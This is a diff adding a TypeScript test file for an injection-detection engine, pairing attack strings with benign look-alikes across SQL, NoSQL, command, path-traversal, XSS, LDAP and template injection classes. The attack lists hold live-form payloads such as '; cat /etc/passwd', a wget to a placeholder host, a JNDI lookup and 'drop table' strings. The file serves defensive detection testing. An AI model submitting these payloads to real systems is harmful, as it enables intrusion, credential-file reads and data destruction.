@@ -1,0 +1,275 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are literal template syntax
+import assert from 'node:assert/strict';
+import { readdirSync, readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, test } from 'node:test';
+import { decodedForms, htmlEntityDecode, percentDecode } from './decode.ts';
+import { compileDetector, type InjectionClass } from './engine.ts';
+
+const p1 = compileDetector({ paranoia: 1 });
+const p3 = compileDetector({ paranoia: 3 });
+
+const cases: Record<InjectionClass, { attacks: string[]; benign: string[] }> = {
+  sqli: {
+    attacks: [
+      "' or 1=1--",
+      "admin'--",
+      "1' AND '1'='1",
+      '1 union select username,password from users',
+      "-1' UniOn/**/SeLeCt 1,@@version,3-- -",
+      '1/*!50000union*/ /*!50000select*/ 1,2',
+      "'; drop table users--",
+      '1 and sleep(5)',
+      "1' waitfor delay '0:0:5'--",
+      "') or ('a'='a",
+      '1)) or ((1=1',
+      "x' and extractvalue(1,concat(0x7e,version()))#",
+      '%27%20or%201%3D1--',
+    ],
+    benign: [
+      'select the best option from the menu',
+      'drop me a line',
+      "O'Brien",
+      "it's 5 o'clock; select one from below",
+      'Union Station, platform 3',
+      'null and void (see page 4)',
+      '1 < 2 and 3 > 2',
+      'Drop table tennis practice today',
+      'I need sleep (8 hours)',
+    ],
+  },
+  nosqli: {
+    attacks: [
+      '{"$ne": null}',
+      '[$ne]=1',
+      '{"$where": "this.a == 1"}',
+      "'; return true; var x='",
+      'this.password.match(/^a/)',
+      'db.users.find()',
+    ],
+    benign: [
+      '$5 off',
+      'Use $HOME/bin',
+      '$regex is a Mongo operator',
+      '{"$schema": "x"}',
+      'this is fine',
+      'Return policy: 30 days',
+    ],
+  },
+  cmdi: {
+    attacks: [
+      '; cat /etc/passwd',
+      '| id',
+      '127.0.0.1 && whoami',
+      '`id`',
+      '$(sleep 5)',
+      ";c''at${IFS}/etc/passwd",
+      'x\nwget http://e.example/s',
+      '&& type C:\\Windows\\win.ini',
+      ';{cat,/etc/passwd}',
+    ],
+    benign: [
+      'Tom & Jerry',
+      'cats; dogs',
+      'Run `ls -la` to list files',
+      'Meeting 3; exec summary attached',
+      'R&D | Sales',
+      'cat food; fish',
+    ],
+  },
+  'path-traversal': {
+    attacks: [
+      '../../../etc/passwd',
+      '..%2f..%2f..%2fetc%2fpasswd',
+      '%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
+      '....//....//etc/passwd',
+      '..\\..\\..\\windows\\win.ini',
+      '/etc/shadow',
+      'file:///etc/passwd',
+      'php://filter/convert.base64-encode/resource=index.php',
+    ],
+    benign: [
+      '../README.md',
+      'docs/guide/install.md',
+      'Wait... what?',
+      "import x from '../lib/x.js'",
+      'Edit /etc/hosts to map names',
+      'C:\\Users\\alice\\todo.txt',
+    ],
+  },
+  xss: {
+    attacks: [
+      '<script>alert(1)</script>',
+      '<img src=x onerror=alert(1)>',
+      '<svg/onload=alert(1)>',
+      'javascript:alert(1)',
+      '" onmouseover="alert(1)',
+      '<a href="jav&#x09;ascript:alert(1)">x</a>',
+      '&lt;script&gt;alert(1)&lt;/script&gt;',
+      "';alert(1)//",
+      '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
+    ],
+    benign: [
+      '1 < 2',
+      'a <b> c',
+      '<p>Hello</p>',
+      'List<String>',
+      'JavaScript: The Good Parts',
+      'Use the <script> tag to include JavaScript',
+      '<img src="cat.png" alt="cat">',
+      'Alice <alice@example.com>',
+    ],
+  },
+  ldap: {
+    attacks: ['*)(uid=*))(|(uid=*', 'admin)(&)', '*)(|(objectClass=*)', 'admin*))', 'x)(|(cn=*)'],
+    benign: ['smile :)(', 'f(x)(y)', 'Call (555) 123-4567', '*) see note', 'cn=John Smith,ou=People'],
+  },
+  ssti: {
+    attacks: [
+      '{{7*7}}',
+      '${7*7}',
+      '<%= 7*7 %>',
+      "{{''.__class__.__mro__}}",
+      '${T(java.lang.Runtime).getRuntime()}',
+      '{{config.items()}}',
+      '${jndi:ldap://x/a}',
+      '#{7*7}',
+    ],
+    benign: [
+      'Hello {{name}}',
+      '${HOME}/bin',
+      '<%= user.name %>',
+      '{% if user %}Hi{% endif %}',
+      'Price: ${price}',
+      '7*7 = 49',
+    ],
+  },
+};
+
+for (const [cls, { attacks, benign }] of Object.entries(cases) as Array<
+  [InjectionClass, (typeof cases)['sqli']]
+>) {
+  describe(`${cls} detection at paranoia 1`, () => {
+    for (const a of attacks) {
+      test(`flags ${JSON.stringify(a)}`, () => assert.equal(p1.scanValue(a), cls));
+    }
+    for (const b of benign) {
+      test(`passes ${JSON.stringify(b)}`, () => assert.equal(p1.scanValue(b), undefined));
+    }
+  });
+}
+
+describe('detector options', () => {
+  test('a detector limited to some classes ignores the others', () => {
+    const onlySql = compileDetector({ paranoia: 1, classes: ['sqli'] });
+    assert.equal(onlySql.scanValue('<script>alert(1)</script>'), undefined);
+    assert.equal(onlySql.scanValue("' or 1=1--"), 'sqli');
+  });
+  test('a per-call class filter narrows the detector', () => {
+    assert.equal(p1.scanValue('<svg onload=alert(1)>', new Set(['sqli'])), undefined);
+  });
+  test('keys are checked for Mongo operators', () => {
+    assert.equal(p1.scanKey('$where'), 'nosqli');
+    assert.equal(p1.scanKey('password[$ne]'), 'nosqli');
+    assert.equal(p1.scanKey('$schema'), undefined);
+    assert.equal(p1.scanKey('price'), undefined);
+  });
+  test('higher paranoia flags more ambiguous input', () => {
+    assert.equal(p1.scanValue('alert(document.cookie)'), undefined);
+    assert.equal(p3.scanValue('alert(document.cookie)'), 'xss');
+  });
+});
+
+describe('decoding', () => {
+  test('percent-decodes overlong UTF-8 dots and slashes to ASCII', () => {
+    assert.equal(percentDecode('%c0%ae%c0%ae%c0%af'), '../');
+    assert.equal(percentDecode('%e0%80%ae'), '.');
+  });
+  test('keeps invalid escapes and drops NUL', () => {
+    assert.equal(percentDecode('100%zz%00x'), '100%zzx');
+  });
+  test('decodes numeric references without semicolons and named ones', () => {
+    assert.equal(htmlEntityDecode('&#x3c;a&#62&lt;&colon;'), '<a><:');
+  });
+  test('double encoding is undone once more than the transport did', () => {
+    assert.deepEqual(decodedForms('%252e%252e%252f'), ['%252e%252e%252f', '../']);
+  });
+});
+
+describe('pathological input', () => {
+  const big = (unit: string) => unit.repeat(Math.ceil(100_000 / unit.length));
+  for (const [name, input] of [
+    ['100 KB of quotes', big("'")],
+    ['100 KB of opening parentheses', big('(')],
+    ['100 KB of nested brackets', big('[{(<')],
+    ['100 KB of tag openers', big('<a ')],
+    ['100 KB of template openers', big('{{')],
+    ['100 KB of separators', big(';|&`$(')],
+    ['100 KB of dots and slashes', big('../')],
+    ['100 KB of percent escapes', big('%25')],
+    ['100 KB of SQL keywords', big(' or 1=1 union select')],
+    ['100 KB of LDAP fragments', big(')(')],
+  ] as const) {
+    test(`scans ${name} to completion at every paranoia level`, () => {
+      for (const p of [1, 2, 3] as const) {
+        const result = compileDetector({ paranoia: p }).scanValue(input);
+        assert.ok(result === undefined || typeof result === 'string');
+      }
+    });
+  }
+});
+
+describe('no backtracking constructs', () => {
+  // Every regular expression literal in the engine: none may nest quantifiers (`(a+)+`, `(a*b?)*`) or
+  // quantify an alternation whose branches overlap, the shapes behind catastrophic backtracking.
+  const dir = import.meta.dirname;
+  const sources = readdirSync(dir).filter((f) => f.endsWith('.ts') && !f.endsWith('.test.ts'));
+  const literal = /\/((?:\\.|\[(?:\\.|[^\]\\\n])*\]|[^/\\\n[])+)\/[dgimsuvy]*(?=[.,;)\s]|$)/g;
+  test('the engine sources were found', () => assert.ok(sources.length >= 8));
+  test('the check recognises nested quantifiers and accepts flat ones', () => {
+    assert.equal(hasNestedQuantifier('(a+)+'), true);
+    assert.equal(hasNestedQuantifier('^(\\w*x)*$'), true);
+    assert.equal(hasNestedQuantifier('(?:ab|cd)+'), false);
+    assert.equal(hasNestedQuantifier('^\\s*[\\w$.]+\\s*$'), false);
+  });
+  for (const file of sources) {
+    test(`${file} has no regex with a quantified group that contains a quantifier`, () => {
+      const text = readFileSync(join(dir, file), 'utf8');
+      for (const line of text.split('\n')) {
+        if (line.trimStart().startsWith('//') || line.trimStart().startsWith('*')) continue;
+        for (const m of line.matchAll(literal)) {
+          const body = m[1];
+          if (!/[+*?{]/.test(body)) continue;
+          assert.equal(hasNestedQuantifier(body), false, `${file}: /${body}/`);
+        }
+      }
+    });
+  }
+});
+
+/** Whether a regex source has a group that is quantified and contains a quantifier itself. */
+function hasNestedQuantifier(source: string): boolean {
+  const stack: boolean[] = [];
+  let inClass = false;
+  for (let i = 0; i < source.length; i++) {
+    const c = source[i];
+    if (c === '\\') {
+      i++;
+      continue;
+    }
+    if (inClass) {
+      if (c === ']') inClass = false;
+      continue;
+    }
+    if (c === '[') inClass = true;
+    else if (c === '(') stack.push(false);
+    else if (c === ')') {
+      const inner = stack.pop() ?? false;
+      const next = source[i + 1];
+      const quantified = next === '+' || next === '*' || next === '{' || next === '?';
+      if (inner && quantified && next !== '?') return true;
+      if (stack.length > 0 && (inner || quantified)) stack[stack.length - 1] = true;
+    } else if ((c === '+' || c === '*' || c === '{') && stack.length > 0) stack[stack.length - 1] = true;
+  }
+  return false;
+}
